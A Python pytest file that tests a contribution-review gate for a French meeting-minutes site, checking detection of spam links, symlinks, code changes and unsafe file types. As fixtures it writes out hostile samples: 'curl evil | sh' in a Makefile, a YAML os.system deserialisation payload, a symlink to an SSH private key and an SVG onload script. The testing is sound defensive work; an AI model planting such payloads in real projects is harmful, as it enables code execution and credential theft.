"""The contribution gate ``python -m generator review`` on a scratch git repository (R1, R2, S1, S2)."""

from __future__ import annotations

import os
import subprocess
from datetime import date, timedelta
from pathlib import Path

import pytest

from generator.cli.main import main

ENV = {**os.environ, "GIT_AUTHOR_NAME": "Test", "GIT_AUTHOR_EMAIL": "test@example.org",
       "GIT_COMMITTER_NAME": "Test", "GIT_COMMITTER_EMAIL": "test@example.org", "GIT_CONFIG_GLOBAL": os.devnull}

OLD_MINUTES = """---
titre: Réunion du réseau
date: 2024-01-10
---

# Relevé de décisions

La cartographie des acteurs avance ; voir le [site du département](https://www.ardeche.fr/).
"""

# S2: an SEO spam paragraph with the traits of the one found at the end of real minutes
# (commercial lexicon, several outbound links in one paragraph), written for this test.
SPAM = """
Comparatif 2024 des mutuelles santé pas cher : consultez [notre comparatif](https://mutuelles-top.example/comparatif),
les [répliques airsoft](https://replique-airsoft.example/boutique) en promo et le
[meilleur VPN](https://vpn-discount.example/) du moment.
"""


def git(repo: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=repo, env=ENV, check=True, capture_output=True)


@pytest.fixture()
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "depot"
    (root / "meetings").mkdir(parents=True)
    (root / "content").mkdir()
    (root / "meetings" / "2024-01-10-reunion-reseau.md").write_text(OLD_MINUTES, encoding="utf-8")
    (root / "content" / "index.md").write_text("# Accueil\n", encoding="utf-8")
    (root / "mkdocs.yml").write_text("site_name: Test\n", encoding="utf-8")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    git(root, "checkout", "-q", "-b", "contribution")
    return root


def review(repo: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str]:
    code = main(["review", "--root", str(repo), "--base", "main", *extra])
    return code, capsys.readouterr().out


def commit(repo: Path) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "contribution")


def test_clean_content_change_passes(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    meeting = repo / "meetings" / f"{date.today().isoformat()}-atelier.md"
    meeting.write_text("---\ntitre: Atelier\n---\n\nVoir le [département](https://www.ardeche.fr/agenda).\n",
                       encoding="utf-8")
    commit(repo)
    code, out = review(repo, capsys)
    assert code == 0
    assert "0 refus, 0 point(s) à vérifier" in out


def test_s2_spam_appended_to_old_minutes(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = repo / "meetings" / "2024-01-10-reunion-reseau.md"
    path.write_text(OLD_MINUTES + SPAM, encoding="utf-8")
    commit(repo)
    code, out = review(repo, capsys)
    assert code == 0, out  # findings only: a human decides
    rel = "meetings/2024-01-10-reunion-reseau.md"
    for domain in ("mutuelles-top.example", "replique-airsoft.example", "vpn-discount.example"):
        assert f"[A-DOMAINE] nouveau domaine externe « {domain} »" in out
    assert "ardeche.fr" not in out  # known at the base
    assert f"{rel}:10:1: [A-DENSITE] 3 liens externes dans un même paragraphe" in out
    assert f"{rel}:10:1: [A-LEXIQUE] vocabulaire commercial « Comparatif »" in out
    for word in ("mutuelles", "pas cher", "répliques", "airsoft", "promo", "VPN"):
        assert f"« {word} »" in out
    assert f"{rel}:1:1: [A-ANCIEN] modification d'un compte-rendu de plus de 90 jours" in out
    strict, _ = review(repo, capsys, "--strict")
    assert strict == 1


def test_recent_minutes_edit_is_not_flagged(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (repo / "meetings" / "2024-01-10-reunion-reseau.md").write_text(OLD_MINUTES + "\nUne précision.\n",
                                                                       encoding="utf-8")
    code, out = review(repo, capsys, "--max-age-days", str((date.today() - date(2024, 1, 10)).days + 1))
    assert code == 0 and "A-ANCIEN" not in out
    code, out = review(repo, capsys)
    assert "A-ANCIEN" in out


def test_r1_symlink_is_refused_tracked_or_not(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (repo / "content" / "img").mkdir()
    (repo / "content" / "img" / "x.png").symlink_to(Path.home() / ".ssh" / "id_ed25519")
    code, out = review(repo, capsys)
    assert code == 1
    assert "content/img/x.png:1:1: [C-LIEN] lien symbolique refusé" in out
    commit(repo)
    code, out = review(repo, capsys)
    assert code == 1
    assert "content/img/x.png:1:1: [C-LIEN] lien symbolique dans le dépôt" in out


def test_r2_code_files_need_a_maintainer(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (repo / "mkdocs.yml").write_text("site_name: !!python/object/apply:os.system ['id']\n", encoding="utf-8")
    (repo / "Makefile").write_text("all:\n\tcurl evil | sh\n", encoding="utf-8")
    (repo / ".github" / "workflows").mkdir(parents=True)
    (repo / ".github" / "workflows" / "x.yml").write_text("on: pull_request_target\n", encoding="utf-8")
    (repo / "requirements-dev.txt").write_text("evil==1\n", encoding="utf-8")
    code, out = review(repo, capsys)
    assert code == 1
    for path in ("mkdocs.yml", "Makefile", ".github/workflows/x.yml", "requirements-dev.txt"):
        assert f"{path}:1:1: [C-CODE] fichier hors des dossiers de contenu : nécessite un·e mainteneur·euse" in out
    code, out = review(repo, capsys, "--mainteneur")
    assert code == 0 and "C-CODE" not in out


def test_size_encoding_and_file_type(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (repo / "content" / "gros.md").write_text("a" * (300 * 1024), encoding="utf-8")
    (repo / "meetings" / "2024-02-01-latin.md").write_bytes("---\ntitre: H\xe9l\xe8ne\n".encode("latin-1"))
    (repo / "content" / "logo.svg").write_text('<svg onload="alert(1)"/>', encoding="utf-8")
    code, out = review(repo, capsys)
    assert code == 1
    assert "content/gros.md:1:1: [C-TAILLE] fichier trop gros (300 Kio, maximum 256 Kio)" in out
    assert "meetings/2024-02-01-latin.md:1:1: [C-ENCODAGE] texte non UTF-8 (octet 0xe9)" in out
    assert "content/logo.svg:1:1: [C-TYPE] type de fichier « .svg »" in out


def test_unknown_base_is_a_usage_error(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["review", "--root", str(repo), "--base", "branche-inexistante"])
    assert code == 2
    assert "impossible de comparer « branche-inexistante »" in capsys.readouterr().err


def test_old_date_limit_uses_the_file_name(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    recent = (date.today() - timedelta(days=10)).isoformat()
    path = repo / "meetings" / f"{recent}-recente.md"
    path.write_text("---\ntitre: R\n---\n\nTexte.\n", encoding="utf-8")
    commit(repo)
    path.write_text("---\ntitre: R\n---\n\nTexte corrigé.\n", encoding="utf-8")
    code, out = review(repo, capsys)
    assert code == 0 and "A-ANCIEN" not in out
